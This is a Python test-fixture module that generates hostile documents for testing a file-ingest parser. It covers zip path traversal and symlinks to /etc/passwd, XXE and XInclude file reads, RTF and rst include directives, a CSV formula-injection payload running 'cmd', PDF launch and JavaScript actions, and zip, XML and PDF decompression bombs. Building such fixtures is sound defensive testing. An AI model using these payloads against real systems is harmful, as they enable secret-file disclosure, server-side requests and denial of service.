"""Files that want out of their reader, or want to burst it; SECURITY 4. All are made here.

`HOSTILE` and `BOMBS` map a file's name to a function that makes its bytes. `{port}` in what they hold is the
port of a listener on this machine that nobody may call; SECRET is a file that no text may come from.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import partial
from typing import TYPE_CHECKING

from tests.ingest.test_partition import archive, docx, epub, pdf, pptx, xlsx

if TYPE_CHECKING:
    from collections.abc import Callable

SECRET = "/etc/passwd"
# Names that must never come to be.
OUTSIDE = ("/tmp/quarry-escaped.md", "/dev/shm/quarry-escaped.md")  # noqa: S108 - nothing is written there
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MIB = 1 << 20


# --- building blocks ------------------------------------------------------------------------------------


def _with_parts(whole: bytes, parts: dict[str, str | bytes]) -> bytes:
    """Return a zip container with parts replaced or added."""
    with zipfile.ZipFile(io.BytesIO(whole)) as source:
        old: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    return archive({**old, **parts})


def odt(body: str, *, head: str = "") -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:"
    content = (
        f'<?xml version="1.0"?>{head}<office:document-content xmlns:office="{office}office:1.0"'
        f' xmlns:text="{office}text:1.0" xmlns:table="{office}table:1.0">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    return archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


def _word(text: str, head: str = "") -> bytes:
    body = (
        f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    )
    return _with_parts(docx(), {"word/document.xml": head + body})


def _relation(kind: str, target: str) -> str:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="rId1"'
        f' Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def _slide(text: str, head: str = "") -> bytes:
    slide = (
        f'{head}<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
        ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree><p:nvGrpSpPr>'
        '<p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr>'
        '<p:cNvPr id="2" name="t"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r>'
        f"<a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )
    return _with_parts(pptx(), {"ppt/slides/slide1.xml": slide})


def _sheet(cells: str, head: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'{head}<worksheet xmlns="{main}"><sheetData>{cells}</sheetData></worksheet>'
    return _with_parts(xlsx(), {"xl/worksheets/sheet1.xml": sheet})


def _cell(text: str) -> str:
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _container(text: str, head: str = "") -> bytes:
    body = f'<container version="1.0"><rootfiles>{text}</rootfiles></container>'
    return _with_parts(epub(), {"META-INF/container.xml": head + body})


def _mail(*lines: str) -> bytes:
    return "\r\n".join(("From: a@b.c", "To: d@e.f", "Subject: hello", "MIME-Version: 1.0", *lines)).encode()


# Format -> what makes a file of it around a text and the head of its XML.
_XML: dict[str, Callable[[str, str], bytes]] = {
    "xml": lambda text, head: f'<?xml version="1.0"?>{head}<d><p>{text}</p></d>'.encode(),
    "docx": _word,
    "pptx": _slide,
    "xlsx": lambda text, head: _sheet(_cell(text), head),
    "epub": _container,
    "odt": lambda text, head: odt(f"<text:p>{text}</text:p>", head=head),
    "xhtml": lambda text, head: (
        f'{head}<html xmlns="http://www.w3.org/1999/xhtml"><p>{text}</p></html>'.encode()
    ),
}


# --- path tricks ------------------------------------------------------------------------------------------

_ESCAPES = {
    "above": "../../../../escaped.md",
    "absolute": OUTSIDE[0],
    "backslash": "..\\..\\escaped.md",
    "drive": "C:\\escaped.md",
    "device": OUTSIDE[1],
    "home": "~/escaped.md",
    "dots": "a/./../../b/../../escaped.md",
}


def _escape(name: str, _: int) -> bytes:
    return archive({name: "# Out\n\nescaped", "inside.md": "# In\n\nstays"})


def _office_escape(whole: Callable[[], bytes], _: int) -> bytes:
    return _with_parts(whole(), dict.fromkeys(("../../escaped.xml", *OUTSIDE), "<x/>"))


def _symlink(_: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, target in (("link.md", SECRET), ("folder", "/etc")):
            entry = zipfile.ZipInfo(name)
            entry.create_system, entry.external_attr = 3, 0o120777 << 16
            file.writestr(entry, target)
        file.writestr("folder/passwd.md", "# In\n\nstays")
    return buffer.getvalue()


# --- local and remote includes ----------------------------------------------------------------------------

_INCLUDES = {
    "local": f'<!DOCTYPE d [<!ENTITY x SYSTEM "file://{SECRET}">]>',
    "remote": '<!DOCTYPE d [<!ENTITY x SYSTEM "http://127.0.0.1:{port}/x">]>',
    "parameter": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1:{port}/p">%p;<!ENTITY x "y">]>',
}


def _include(make: Callable[[str, str], bytes], head: str, port: int) -> bytes:
    return make("&x;", head.replace("{port}", str(port)))


def _text(text: str, port: int) -> bytes:
    return text.replace("{port}", str(port)).encode()


_TEXTS = {
    "xinclude.xml": '<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"'
    ' parse="text"/></d>',
    "stylesheet.xml": '<?xml-stylesheet href="http://127.0.0.1:{port}/s.xsl" type="text/xsl"?><d>x</d>',
    "include.rst": "Title\n=====\n\n.. include:: /etc/passwd\n\nText.\n",
    "raw.rst": "Title\n=====\n\n.. raw:: html\n   :file: /etc/passwd\n\nText.\n",
    "table.rst": "Title\n=====\n\n.. csv-table:: x\n   :file: /etc/passwd\n\nText.\n",
    "raw-url.rst": "Title\n=====\n\n.. raw:: html\n   :url: http://127.0.0.1:{port}/x\n\nText.\n",
    "frames.html": '<iframe src="file:///etc/passwd"></iframe><object data="http://127.0.0.1:{port}/">x',
    "script.html": '<script src="http://127.0.0.1:{port}/s.js"></script><img src="http://localhost/i">',
    "refresh.html": '<base href="http://127.0.0.1:{port}/"><meta http-equiv="refresh" content="0;url=x">x',
    "style.html": '<link rel="stylesheet" href="http://127.0.0.1:{port}/c.css"><style>@import "x"</style>x',
    "image.md": "![x](http://127.0.0.1:{port}/i.png)\n\n<img src='file:///etc/passwd'>\n",
    "formula.csv": '=cmd|"/c calc"!A1,=IMPORTXML("http://127.0.0.1:{port}/")\n1,2\n',
    "include.rtf": r"{\rtf1{\field{\*\fldinst INCLUDETEXT \"/etc/passwd\"}{\fldrslt x}}text}",
    "picture.rtf": r"{\rtf1{\field{\*\fldinst INCLUDEPICTURE \"http://127.0.0.1:{port}/\"}{\fldrslt x}}t}",
    "template.rtf": r"{\rtf1{\*\template http://127.0.0.1:{port}/t.dotm}text}",
    "object.rtf": r"{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105000002000000}}text}",
}


def _mail_file(kind: str, port: int) -> bytes:
    external = (
        'Content-Type: message/external-body; access-type=URL; URL="http://127.0.0.1:{port}/x"'.replace(
            "{port}", str(port)
        )
    )
    bodies = {
        "external": (external, "", "Content-Type: text/plain", "", "x"),
        "attachment": (
            'Content-Type: multipart/mixed; boundary="b"', "", "--b",
            "Content-Type: text/plain", "", "text", "--b", "Content-Type: text/markdown",
            'Content-Disposition: attachment; filename="../../../../escaped.md"', "", "# Out", "--b--",
        ),
        "html": ("Content-Type: text/html", "", f'<img src="http://127.0.0.1:{port}/i">text'),
    }  # fmt: skip
    return _mail(*bodies[kind])


def _web_archive(port: int) -> bytes:
    return _mail(
        'Content-Type: multipart/related; boundary="b"', "", "--b", "Content-Type: text/html",
        "Content-Location: file:///etc/passwd", "", f'<img src="http://127.0.0.1:{port}/i">text', "--b--",
    )  # fmt: skip


# --- macros, links, actions -------------------------------------------------------------------------------


def _macros(whole: Callable[[], bytes], folder: str, _: int) -> bytes:
    return _with_parts(
        whole(), {f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)}
    )


def _external(whole: Callable[[], bytes], part: str, kind: str, port: int) -> bytes:
    return _with_parts(whole(), {part: _relation(kind, f"http://127.0.0.1:{port}/t.dotm")})


def _word_field(_: int) -> bytes:
    run = '<w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p>{run}</w:p></w:body></w:document>'
    return _with_parts(docx(), {"word/document.xml": body})


def _pdf_action(action: str, port: int) -> bytes:
    page = pdf([(12, "This page has a paragraph of its own.")])
    return page.replace(
        b"<< /Type /Catalog",
        b"<< /Type /Catalog /OpenAction << " + action.replace("{port}", str(port)).encode() + b" >>",
    )


_ACTIONS = {
    "launch": "/S /Launch /F (/bin/sh)",
    "uri": "/S /URI /URI (http://127.0.0.1:{port}/)",
    "javascript": "/S /JavaScript /JS (app.launchURL('http://127.0.0.1:{port}/'))",
    "remote": "/S /GoToR /F << /FS /URL /F (http://127.0.0.1:{port}/a.pdf) >> /D [0 /Fit]",
    "submit": "/S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:{port}/) >>",
}

HOSTILE: dict[str, Callable[[int], bytes]] = {
    **{f"path-{kind}.zip": partial(_escape, name) for kind, name in _ESCAPES.items()},
    "path-symlink.zip": _symlink,
    "path.docx": partial(_office_escape, docx),
    "path.xlsx": partial(_office_escape, xlsx),
    "path.pptx": partial(_office_escape, pptx),
    "path.epub": partial(_office_escape, epub),
    "path.odt": partial(_office_escape, partial(odt, "<text:p>x</text:p>")),
    **{
        f"include-{kind}.{suffix}": partial(_include, make, head)
        for suffix, make in _XML.items()
        for kind, head in _INCLUDES.items()
    },
    **{name: partial(_text, text) for name, text in _TEXTS.items()},
    **{f"mail-{kind}.eml": partial(_mail_file, kind) for kind in ("external", "attachment", "html")},
    "page.mhtml": _web_archive,
    "macro.docx": partial(_macros, docx, "word"),
    "macro.xlsx": partial(_macros, xlsx, "xl"),
    "macro.pptx": partial(_macros, pptx, "ppt"),
    "template.docx": partial(_external, docx, "word/_rels/settings.xml.rels", "attachedTemplate"),
    "workbook.xlsx": partial(_external, xlsx, "xl/worksheets/_rels/sheet1.xml.rels", "externalLinkPath"),
    "object.pptx": partial(_external, pptx, "ppt/slides/_rels/slide9.xml.rels", "oleObject"),
    "field.docx": _word_field,
    **{f"action-{kind}.pdf": partial(_pdf_action, action) for kind, action in _ACTIONS.items()},
}


# --- bombs ------------------------------------------------------------------------------------------------

_LAUGHS = (
    '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {c} "{f"&{p};" * 20}">' for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
_QUADRATIC = f'<!DOCTYPE d [<!ENTITY i "{"a" * 100_000}">]>'


def _entities(make: Callable[[str, str], bytes], head: str, n: int, _: int) -> bytes:
    return make("&i;" * n, head)


def _big_part(whole: Callable[[], bytes], part: str, _: int) -> bytes:
    return _with_parts(whole(), {part: b"<x>" + b" " * (300 * MIB) + b"</x>"})


def _nested_zip(_: int) -> bytes:
    inner = archive({"a.txt": b"0" * (100 * MIB)})
    for level in range(6):
        inner = archive({f"{level}-{n}.zip": inner for n in range(10)})
    return inner


def _lying_zip(_: int) -> bytes:
    """Say in both headers that 200 MiB are 10 bytes."""
    true = archive({"a.txt": b"0" * (200 * MIB)})
    return true.replace(struct.pack("<L", 200 * MIB), struct.pack("<L", 10))


def _overlapping_zip(_: int) -> bytes:
    """Let 2,000 entries point at the same 10 MiB."""
    one = archive({"a.txt": b"0" * (10 * MIB)})
    at = one.index(b"PK\x01\x02")
    end = one.index(b"PK\x05\x06")
    entry = one[at:end]
    directory = b"".join(entry.replace(b"a.txt", b"%05d" % n) for n in range(2000))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2000, 2000, len(directory), at, 0)
    return one[:at] + directory + tail


def _flate_pdf(_: int) -> bytes:
    """A page whose content is 800 MiB of blanks, packed twice."""
    packed = zlib.compress(zlib.compress(b" " * (800 * MIB), 9), 9)
    page = pdf([(12, "x")])
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    start = page.index(b"5 0 obj\n") + len(b"5 0 obj\n")
    return page[:start] + stream + page[page.index(b"\nendobj", start) :]


def _pixel_pdf(_: int) -> bytes:
    """A page that shows an image of 100,000 x 100,000 pixels."""
    page = pdf([(12, "x")])
    image = zlib.compress(bytes(10 * MIB), 9)
    body = (
        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB"
        b" /BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(image), image)
    )
    page = page.replace(b"/Font << /F1 3 0 R >>", b"/Font << /F1 3 0 R >> /XObject << /I 9 0 R >>")
    page = page.replace(b"ET\nendstream", b"ET\nq 612 0 0 792 0 0 cm /I Do Q\nendstream")
    return page.replace(b"xref\n0 ", b"9 0 obj\n" + body + b"\nendobj\nxref\n0 ", 1)


def _png_part(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def _pixel_docx(_: int) -> bytes:
    """A picture that says it has 60,000 x 60,000 pixels."""
    head = struct.pack(">LLBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    png = (
        b"\x89PNG\r\n\x1a\n"
        + _png_part(b"IHDR", head)
        + _png_part(b"IDAT", zlib.compress(bytes(MIB)))
        + _png_part(b"IEND", b"")
    )
    return _with_parts(docx(), {"word/media/image1.png": png})


def _huge_page(_: int) -> bytes:
    return pdf([(12, "x")]).replace(b"[0 0 612 792]", b"[0 0 99999999 99999999]")


def _circular_pdf(_: int) -> bytes:
    return pdf([(12, "x")]).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")


def _counted_pdf(_: int) -> bytes:
    return pdf([(12, "x")]).replace(b"/Count 1", b"/Count 2000000000")


def _nested(begin: str, end: str, n: int, _: int) -> bytes:
    return (begin * n + "x" + end * n).encode()


def _nested_word(_: int) -> bytes:
    cell = "<w:tbl><w:tr><w:tc>"
    body = cell * 5000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 5000
    return _with_parts(
        docx(), {"word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'}
    )


def _nested_mail(_: int) -> bytes:
    lines = []
    for n in range(2000):
        lines += [f'Content-Type: multipart/mixed; boundary="b{n}"', "", f"--b{n}"]
    return _mail(*lines, "Content-Type: text/plain", "", "x")


def _wide_sheet(_: int) -> bytes:
    """Two cells, at both corners of the largest sheet."""
    corner = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _sheet('<row r="1"><c r="A1"><v>1</v></c></row>' + corner)


def _repeated(_: int) -> bytes:
    cells = (
        '<table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell>'
    )
    row = f'<table:table-row table:number-rows-repeated="1000000000">{cells}</table:table-row>'
    return odt(f'<table:table>{row}</table:table><text:p>x<text:s text:c="1000000000"/></text:p>')


def _of(text: str, n: int, _: int) -> bytes:
    return (text * n).encode()


BOMBS: dict[str, Callable[[int], bytes]] = {
    "part.docx": partial(_big_part, docx, "word/document.xml"),
    "part.xlsx": partial(_big_part, xlsx, "xl/worksheets/sheet1.xml"),
    "part.pptx": partial(_big_part, pptx, "ppt/slides/slide1.xml"),
    "part.epub": partial(_big_part, epub, "META-INF/container.xml"),
    "part.odt": partial(_big_part, partial(odt, ""), "content.xml"),
    "members.zip": lambda _: archive({f"{n}.txt": b"0" * MIB for n in range(600)}),
    "nested.zip": _nested_zip,
    "lying.zip": _lying_zip,
    "overlapping.zip": _overlapping_zip,
    "entries.zip": lambda _: archive({f"{n}.txt": "" for n in range(30_000)}),
    **{f"laughs.{suffix}": partial(_entities, make, _LAUGHS, 1) for suffix, make in _XML.items()},
    **{
        f"quadratic.{suffix}": partial(_entities, make, _QUADRATIC, 20_000)
        for suffix, make in _XML.items()
        if suffix in ("xml", "docx", "odt")
    },
    "flate.pdf": _flate_pdf,
    "pixels.pdf": _pixel_pdf,
    "pixels.docx": _pixel_docx,
    "page.pdf": _huge_page,
    "circle.pdf": _circular_pdf,
    "count.pdf": _counted_pdf,
    "deep.json": partial(_nested, "[", "]", 1_000_000),
    "deep.xml": partial(_nested, "<a>", "</a>", 300_000),
    "deep.html": partial(_nested, "<div>", "</div>", 300_000),
    "deep.docx": _nested_word,
    "deep.rtf": lambda _: b"{\\rtf1" + b"{" * 500_000 + b"x" + b"}" * 500_001,
    "deep.eml": _nested_mail,
    "quotes.md": partial(_nested, "> ", "", 200_000),
    "brackets.md": partial(_of, "[", 2_000_000),
    "emphasis.md": partial(_of, "*a **b _c ", 300_000),
    "backticks.md": lambda _: "".join("`" * n + " " for n in range(2500)).encode(),
    "corner.xlsx": _wide_sheet,
    "repeated.odt": _repeated,
    "line.txt": partial(_of, "a", 50_000_000),
    "columns.csv": partial(_of, "1,", 20_000_000),
}
